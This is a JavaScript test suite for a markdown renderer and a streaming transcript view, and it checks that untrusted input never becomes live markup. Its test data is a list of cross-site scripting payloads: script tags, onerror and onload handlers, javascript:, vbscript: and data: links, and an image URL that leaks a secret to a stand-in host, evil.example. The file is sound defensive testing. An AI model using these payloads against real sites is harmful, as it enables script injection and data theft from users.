import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { container, doc } from "./helpers/dom.js";
import { renderMarkdown } from "../src/lib/markdown.js";
import { StreamingMarkdown } from "../src/lib/markdown-stream.js";
import { TranscriptStore } from "../src/lib/store.js";
import { createStreamView } from "../src/lib/view.js";

const ATTACKS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[y](JAVASCRIPT:alert(1)) [z]( javascript:alert(1) ) [w](data:text/html,<script>alert(1)</script>)",
  "![pic](javascript:alert(1)) ![tracker](https://evil.example/leak?q=secret)",
  '<a href="javascript:alert(1)">a</a> <svg onload=alert(1)> <iframe src=x></iframe>',
  "```html\n<img src=x onerror=alert(1)><script>alert(2)</script>\n```",
  "```\" onmouseover=alert(1) x=\"\ncode\n```",
  "[ref][r]\n\n[r]: javascript:alert(1)",
  "`<img src=x onerror=alert(1)>` inline",
  "[rel](page.html) [frag](#top) [vb](vbscript:msgbox(1)) [dat](data:,x) [proto](//evil.example/x)",
];
const DOCUMENT = ATTACKS.join("\n\n");

/** No live markup anywhere under `root`: no scripts, no handlers, no dangerous URLs, no images. */
function assertInert(root) {
  assert.equal(root.querySelectorAll("script, iframe, object, embed, svg, img, style, form").length, 0);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      assert.ok(!/^on/i.test(attr.name), `event handler attribute ${attr.name} on <${el.tagName}>`);
      if (attr.name === "href" || attr.name === "src") {
        assert.match(attr.value, /^(https?:|mailto:)/i, `${attr.name}=${attr.value}`);
      }
    }
  }
}

describe("sanitisation", () => {
  it("one-shot markdown never yields live markup", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown(DOCUMENT);
    assertInert(div);
    // The attacks are shown as text, not dropped silently.
    assert.ok(div.textContent.includes("<img src=x onerror=alert(1)>"));
    assert.ok(div.textContent.includes("<script>alert(1)</script>"));
    const code = div.querySelector("code.language-html");
    assert.equal(code?.textContent, "<img src=x onerror=alert(1)><script>alert(2)</script>\n");
  });

  it("keeps attributes that are not addresses: an ordered list starts where the model started it", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown("3. third\n4. fourth\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |");
    assert.equal(div.querySelector("ol")?.getAttribute("start"), "3");
    assert.equal(div.querySelector("th")?.getAttribute("style"), "text-align:right");
    const md = new StreamingMarkdown(doc);
    md.update("3. third\n4. fourth\n", true);
    assert.equal(md.el.querySelector("ol")?.getAttribute("start"), "3");
  });

  it("links go only to web and mail addresses", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown("[a](https://e.org) [b](mailto:x@e.org) [c](page.html) [d](#top) [e](//e.org)");
    const hrefs = [...div.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    assert.deepEqual(hrefs, ["https://e.org", "mailto:x@e.org"]);
    assert.ok(div.textContent.includes("[c](page.html) [d](#top) [e](//e.org)"), "shown as written");
  });

  it("remote images become links, never fetched", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown("![tracker](https://evil.example/leak?q=secret)");
    assert.equal(div.querySelector("img"), null);
    assert.equal(div.querySelector("a")?.getAttribute("href"), "https://evil.example/leak?q=secret");
    assert.equal(div.querySelector("a")?.getAttribute("rel"), "noopener noreferrer nofollow");
  });

  it("streaming markdown never yields live markup at any step", () => {
    const md = new StreamingMarkdown(doc);
    for (let i = 1; i <= DOCUMENT.length; i += 9) {
      md.update(DOCUMENT.slice(0, i), false);
      assertInert(md.el);
    }
    md.update(DOCUMENT, true);
    assertInert(md.el);
  });

  it("plain-text fields of every block kind go in as text", () => {
    const evil = '<img src=x onerror="alert(1)"><script>alert(1)</script>';
    const store = new TranscriptStore();
    store.receive({
      type: "state",
      seq: 1,
      meta: { status: "done", model: evil, stop_reason: evil },
      blocks: [
        { id: 0, kind: "text", text: "hi", citations: [{ title: evil, url: "javascript:alert(1)", cited_text: evil }, { title: "ok", url: "https://ok.example/" }] },
        { id: 1, kind: "tool", name: evil, args: evil, fields: {}, output: { stdout: evil, [evil]: evil }, result: evil, status: "error" },
        { id: 2, kind: "tool", name: "t", args: "", fields: { [evil]: evil }, output: {}, result: "", status: "ok" },
        { id: 3, kind: "error", message: evil },
        { id: 4, kind: "notice", level: "warning", text: evil },
        { id: 5, kind: "user", text: evil },
        { id: 6, kind: "refusal", text: evil, category: evil, blocked_input: true, spoken: false },
        { id: 7, kind: evil },
        { id: 8, kind: "image", media_type: evil, size: 3 },
      ],
    });
    const el = container();
    const view = createStreamView({ el, store, send: () => {} });
    view.flush();
    assertInert(el);
    assert.ok(el.textContent.includes(evil));
    const links = [...el.querySelectorAll(".axio-nb-citations a")];
    assert.deepEqual(links.map((a) => a.getAttribute("href")), ["https://ok.example/"]);
    view.destroy();
  });
});
